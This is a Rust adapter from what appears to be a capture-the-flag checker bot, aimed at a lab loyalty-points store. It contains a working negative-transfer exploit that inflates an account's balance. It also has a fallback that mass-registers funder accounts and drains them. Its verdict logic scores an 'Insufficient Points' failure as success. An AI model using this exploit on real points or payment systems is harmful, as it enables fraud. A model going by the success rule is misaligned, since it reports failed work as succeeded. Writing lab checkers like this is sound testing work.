//! Economy-exploit adapter for the loyalty-points store target.
//!
//! The flag sits behind a store product priced far above the starting
//! balance. The bot registers a flag-derived account, inflates its balance
//! through the known negative-transfer exploit, and buys the product whose
//! purchase page reveals the flag. If the exploit has been patched, a single
//! deterministic fallback accumulates the balance legitimately by draining
//! freshly registered funder accounts, so a defended-but-functional target
//! still gets scored.
//!
//! Verdict policy for this adapter: a response carrying the explicit
//! insufficient-points marker counts as healthy (`success`), because it
//! proves the purchase path is alive even when the balance was reset
//! mid-attempt by the target's anti-hoarding daemon.

use std::time::Duration;

use async_trait::async_trait;

use super::{
    excerpt, Adapter, AdapterSpec, InjectionRequest, Marker, ProtocolSession, TransportKind,
};
use crate::error::BotError;
use crate::transport::FormSession;
use crate::verdict::Verdict;

/// Account the negative transfer is aimed at. Present on every instance.
const EXPLOIT_RECIPIENT: &str = "root";
/// Store price of the flag product.
const FLAG_PRICE: i64 = 1_000_000;
/// Product id of the flag product in the target's seed catalog.
const FLAG_PRODUCT_ID: u32 = 4;
/// Points every freshly registered account starts with.
const STARTING_POINTS: i64 = 10_000;

const TRANSFER_OK: &str = "Successfully transferred";
const FLAG_REVEAL: &str = "SECRET CODE:";
const INSUFFICIENT: &str = "Insufficient Points";

static SPEC: AdapterSpec = AdapterSpec {
    name: "points",
    transport: TransportKind::FormSession,
    default_port: None,
    requires_secret: false,
    markers: &[
        Marker {
            name: "transfer accepted",
            pattern: TRANSFER_OK,
        },
        Marker {
            name: "flag revealed",
            pattern: FLAG_REVEAL,
        },
        Marker {
            name: "purchase path alive, balance short",
            pattern: INSUFFICIENT,
        },
    ],
};

/// Adapter for the loyalty-points store target.
pub struct PointsAdapter {
    call_timeout: Duration,
}

impl PointsAdapter {
    pub fn new(call_timeout: Duration) -> Self {
        Self { call_timeout }
    }

    /// Register and log in one account in a fresh cookie session.
    async fn open_account(
        &self,
        req: &InjectionRequest,
        username: &str,
    ) -> Result<FormSession, BotError> {
        let session = FormSession::open(&req.host, req.port, self.call_timeout)?;
        session
            .post_form(
                "login",
                &[
                    ("username", username),
                    ("password", username),
                    ("action", "register"),
                ],
            )
            .await?
            .ensure_ok("registration")?;
        session
            .post_form(
                "login",
                &[
                    ("username", username),
                    ("password", username),
                    ("action", "login"),
                ],
            )
            .await?
            .ensure_ok("login")?;
        Ok(session)
    }

    /// Known exploit path: a negative transfer the vulnerable target fails to
    /// reject, inflating the sender's balance past the flag price.
    async fn try_exploit(&self, session: &FormSession) -> Result<bool, BotError> {
        let amount = (-FLAG_PRICE).to_string();
        let resp = session
            .post_form(
                "transfer",
                &[("recipient", EXPLOIT_RECIPIENT), ("amount", &amount)],
            )
            .await?
            .ensure_ok("transfer")?;
        Ok(resp.body.contains(TRANSFER_OK))
    }

    /// Deterministic fallback: drain freshly registered funder accounts into
    /// the main identity until the flag price is covered.
    async fn accumulate_legitimately(
        &self,
        req: &InjectionRequest,
        identity: &str,
    ) -> Result<(), BotError> {
        let needed = FLAG_PRICE - STARTING_POINTS;
        let funders = needed.div_ceil(STARTING_POINTS);
        tracing::debug!(identity = %identity, funders, "exploit rejected, accumulating legitimately");

        for n in 0..funders {
            let funder = format!("{identity}-f{n}");
            let session = self.open_account(req, &funder).await?;
            let amount = STARTING_POINTS.to_string();
            let resp = session
                .post_form("transfer", &[("recipient", identity), ("amount", &amount)])
                .await?
                .ensure_ok("funder transfer")?;
            if !resp.body.contains(TRANSFER_OK) {
                return Err(BotError::protocol(format!(
                    "legitimate transfer rejected: {}",
                    excerpt(&resp.body)
                )));
            }
        }
        Ok(())
    }
}

#[async_trait]
impl Adapter for PointsAdapter {
    fn spec(&self) -> &'static AdapterSpec {
        &SPEC
    }

    async fn inject(&self, req: &InjectionRequest) -> Result<ProtocolSession, BotError> {
        let identity = req.identity();
        let session = self.open_account(req, &identity).await?;

        if !self.try_exploit(&session).await? {
            self.accumulate_legitimately(req, &identity).await?;
        }

        Ok(ProtocolSession::form(session, identity))
    }

    async fn verify(
        &self,
        req: &InjectionRequest,
        session: ProtocolSession,
    ) -> Result<Verdict, BotError> {
        let http = session
            .http
            .as_ref()
            .ok_or_else(|| BotError::protocol("form session missing from attempt state"))?;

        let resp = http
            .post_form(&format!("buy/{FLAG_PRODUCT_ID}"), &[])
            .await?
            .ensure_ok("flag purchase")?;

        if resp.body.contains(&req.flag) {
            return Ok(Verdict::success());
        }
        // Patched-but-functional: the purchase path answered coherently even
        // though the balance no longer covers the price.
        if resp.body.contains(INSUFFICIENT) {
            return Ok(Verdict::success());
        }
        Ok(Verdict::failure(format!(
            "flag absent from purchase response: {}",
            excerpt(&resp.body)
        )))
    }
}
